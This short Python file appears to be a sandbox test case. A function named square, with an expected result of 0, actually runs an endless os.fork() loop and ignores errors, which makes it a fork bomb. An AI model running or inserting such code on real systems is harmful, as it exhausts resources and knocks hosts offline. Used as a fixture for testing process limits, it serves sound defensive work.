"""Processes that make processes."""
# square: 0

# %% square
import os


def square(x):
    while True:
        try:
            os.fork()
        except OSError:
            pass
